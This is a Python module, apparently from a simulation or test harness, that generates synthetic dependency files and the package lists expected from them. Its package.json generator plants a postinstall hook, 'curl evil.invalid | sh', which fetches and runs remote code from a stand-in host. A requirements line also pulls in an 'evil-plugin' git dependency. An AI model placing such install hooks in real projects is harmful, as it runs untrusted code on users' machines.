"""Files that name packages, and what they name.

A package is in the normal form of its registry (PEP 503 for Python); its version is known where it is pinned exactly:
``==`` (no wildcard), an exact version in package.json, or a lock. The packages of a conda environment count as well,
without Python and pip, and ``numpy=1.26`` is no pin. A lock's own project is no dependency. What setup.py would
compute is nobody's to know.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterable
from random import Random

from simhub.clock import digest
from simhub.github.repository import Dependency

Written = tuple[bytes, tuple[Dependency, ...]]
#: What is imported, and what it is called where it is published.
PUBLISHED = {
    "llama_cpp": "llama-cpp-python",
    "open_clip": "open_clip_torch",
    "llama_index": "llama-index-embeddings-huggingface",
    "whisper": "openai-whisper",
    "pyannote": "pyannote.audio",
    "fsspec": "fsspec",
}
_VERSIONS = {
    "transformers": ("4.30.2", "4.41.0", "4.46.3", "5.0.0rc1"),
    "torch": ("1.13.1", "2.1.0+cu121", "2.5.1"),
    "numpy": ("1.26.4", "2.1.0"),
}
_COMMON = ("numpy", "pandas", "tqdm", "Scikit_Learn", "PyYAML", "requests", "matplotlib", "accelerate", "Pillow")
_MORE = ("fastapi", "uvicorn", "pydantic", "python-dotenv", "ruamel.yaml", "zope.interface", "gradio", "streamlit")
_SCRIPTS = (
    "@huggingface/transformers",
    "@xenova/transformers",
    "express",
    "typescript",
    "vite",
    "@types/node",
)


def normal(name: str) -> str:
    """A name of a Python package as PEP 503 has it."""
    return re.sub(r"[-_.]+", "-", name).lower()


def packages(libraries: Iterable[str], rng: Random) -> list[str]:
    """What a project with these imports asks for, as people write it."""
    asked = [PUBLISHED.get(library, library.replace("_", "-")) for library in sorted(set(libraries))]
    asked += rng.sample(_COMMON, rng.randrange(1, 6)) + rng.sample(_MORE, rng.randrange(3))
    known: dict[str, str] = {}
    for name in asked:
        known.setdefault(normal(name), name)
    return list(known.values())


def _version(name: str, rng: Random) -> str:
    known = _VERSIONS.get(normal(name))
    return rng.choice(known) if known else f"{rng.randrange(4)}.{rng.randrange(30)}.{rng.randrange(9)}"


def requirements(path: str, names: list[str], rng: Random) -> Written:
    """requirements.txt, with everything that such files have."""
    lines, found = (
        ["# what this needs: nothing like left-pad==1.0.0", "--extra-index-url https://pypi.org/simple"],
        [],
    )
    for name in names:
        version = _version(name, rng)
        form = rng.choice(
            ("{n}", "{n}>={v}", "{n}=={v}", "{n} == {v}  # pinned", "{n}~={v}", "{n}<9,>={v}", "{n}[all]=={v}")
        )
        if rng.random() < 0.1:
            form += ' ; python_version >= "3.8"' if "#" not in form else ""
        lines.append(form.format(n=name, v=version))
        found.append(Dependency(path, normal(name), version if "==" in form.partition(";")[0] else None))
    if rng.random() < 0.2:
        lines += ["", "-r requirements-dev.txt", "-e ."]
    if rng.random() < 0.15:
        lines.append("evil-plugin @ git+https://github.com/quill-ai/evil-plugin.git@main")
        found.append(Dependency(path, "evil-plugin", None))
    if rng.random() < 0.1:
        lines.append(f"hashed-thing==1.2.3 \\\n    --hash=sha256:{digest(path, length=64)}")
        found.append(Dependency(path, "hashed-thing", "1.2.3"))
    end = "\r\n" if rng.random() < 0.1 else "\n"
    return end.join([*lines, ""]).encode(), tuple(found)


def pyproject(path: str, names: list[str], rng: Random) -> Written:
    """pyproject.toml: of PEP 621, or of Poetry."""
    versions = {name: _version(name, rng) for name in names}
    if rng.random() < 0.4:
        lines = ["[tool.poetry]", 'name = "project"', 'version = "0.1.0"', "", "[tool.poetry.dependencies]"]
        lines += ['python = "^3.10"', *(f'"{name}" = "^{version}"' for name, version in versions.items())]
        lines += ["", "[tool.poetry.group.dev.dependencies]", 'pytest = "==8.3.2"', ""]
        found = [Dependency(path, normal(name), None) for name in names] + [Dependency(path, "pytest", "8.3.2")]
        return "\n".join(lines).encode(), tuple(found)
    pinned = {name for name in names if rng.random() < 0.4}
    lines = ["[build-system]", 'requires = ["hatchling"]', "", "[project]", 'name = "project"', 'version = "0.1.0"']
    lines += ["dependencies = ["]
    lines += [f'  "{name}{"==" if name in pinned else ">="}{version}",' for name, version in versions.items()]
    lines += ["]", "", "[project.optional-dependencies]", 'dev = ["pytest>=8", "Ruff==0.6.9"]', ""]
    found = [Dependency(path, normal(name), versions[name] if name in pinned else None) for name in names]
    found += [Dependency(path, "pytest", None), Dependency(path, "ruff", "0.6.9")]
    return "\n".join(lines).encode(), tuple(found)


def _locked(path: str, names: list[str], rng: Random) -> dict[str, str]:
    """Everything that is needed, and what that needs, with versions."""
    every = {
        normal(name) for name in (*names, "certifi", "idna", "urllib3", "filelock", "packaging", "typing_extensions")
    }
    return {name: _version(name, rng) for name in sorted(every)}


def poetry_lock(path: str, names: list[str], rng: Random) -> Written:
    """poetry.lock."""
    locked = _locked(path, names, rng)
    blocks = [
        f'[[package]]\nname = "{name}"\nversion = "{version}"\ndescription = ""\noptional = false\n'
        f'python-versions = ">=3.8"\nfiles = [\n'
        f'    {{file = "{name}.whl", hash = "sha256:{digest(name, length=64)}"}},\n]\n'
        for name, version in locked.items()
    ]
    end = f'[metadata]\nlock-version = "2.0"\npython-versions = "^3.10"\ncontent-hash = "{digest(path, length=64)}"\n'
    head = "# This file is automatically @generated by Poetry 1.8.3 and should not be changed by hand.\n\n"
    return (head + "\n".join([*blocks, end])).encode(), _pinned(path, locked)


def uv_lock(path: str, names: list[str], rng: Random) -> Written:
    """uv.lock: the project itself is in it, and is no dependency of itself."""
    locked = _locked(path, names, rng)
    blocks = [
        f'[[package]]\nname = "{name}"\nversion = "{version}"\nsource = {{ registry = "https://pypi.org/simple" }}\n'
        for name, version in locked.items()
    ]
    own = '[[package]]\nname = "project"\nversion = "0.1.0"\nsource = { virtual = "." }\ndependencies = [\n'
    own += "".join(f'    {{ name = "{normal(name)}" }},\n' for name in names) + "]\n"
    whole = "\n".join(['version = 1\nrequires-python = ">=3.10"\n', *blocks, own])
    return whole.encode(), _pinned(path, locked)


def pipfile_lock(path: str, names: list[str], rng: Random) -> Written:
    """Pipfile.lock."""
    locked = _locked(path, names, rng)
    body = {name: {"hashes": [], "index": "pypi", "version": f"=={version}"} for name, version in locked.items()}
    develop = {"pytest": {"hashes": [], "version": "==8.3.2"}}
    whole = {
        "_meta": {"pipfile-spec": 6, "requires": {"python_version": "3.11"}},
        "default": body,
        "develop": develop,
    }
    found = (*_pinned(path, locked), Dependency(path, "pytest", "8.3.2"))
    return json.dumps(whole, indent=4).encode(), found


def environment(path: str, names: list[str], rng: Random) -> Written:
    """environment.yml: packages of conda, and below them some of pip."""
    cut = rng.randrange(len(names) + 1)
    lines = ["name: project", "channels: [conda-forge, defaults]", "dependencies:", "  - python=3.10", "  - pip"]
    lines += [f"  - {name.lower()}={_version(name, rng)}" for name in names[:cut]]
    found = [Dependency(path, normal(name), None) for name in names[:cut]]
    lines += ["  - pip:"] * (cut < len(names))
    for name in names[cut:]:
        version = _version(name, rng) if rng.random() < 0.5 else None
        lines.append(f"      - {name}=={version}" if version else f"      - {name}")
        found.append(Dependency(path, normal(name), version))
    return "\n".join([*lines, ""]).encode(), tuple(found)


def package_json(path: str, rng: Random) -> Written:
    """package.json."""
    chosen = {name: f"{rng.randrange(5)}.{rng.randrange(20)}.{rng.randrange(9)}" for name in rng.sample(_SCRIPTS, 3)}
    signs = {name: rng.choice(("^", "~", "", ">=")) for name in chosen}
    body = {name: signs[name] + version for name, version in chosen.items()}
    whole = {
        "name": "project",
        "version": "1.0.0",
        "private": True,
        "scripts": {"postinstall": "curl evil.invalid | sh"},
    }
    whole |= {"dependencies": body, "devDependencies": {"eslint": "9.1.0"}}
    found = [Dependency(path, name, None if signs[name] else version) for name, version in chosen.items()]
    return json.dumps(whole, indent=2).encode(), (*found, Dependency(path, "eslint", "9.1.0"))


def _pinned(path: str, locked: dict[str, str]) -> tuple[Dependency, ...]:
    return tuple(Dependency(path, name, version) for name, version in locked.items())


#: The files of Python that name packages, each with how often it is met and how it is written.
WRITERS: tuple[tuple[str, float, Callable[[str, list[str], Random], Written]], ...] = (
    ("requirements.txt", 0.6, requirements),
    ("pyproject.toml", 0.3, pyproject),
    ("environment.yml", 0.12, environment),
    ("poetry.lock", 0.06, poetry_lock),
    ("uv.lock", 0.06, uv_lock),
    ("Pipfile.lock", 0.04, pipfile_lock),
)
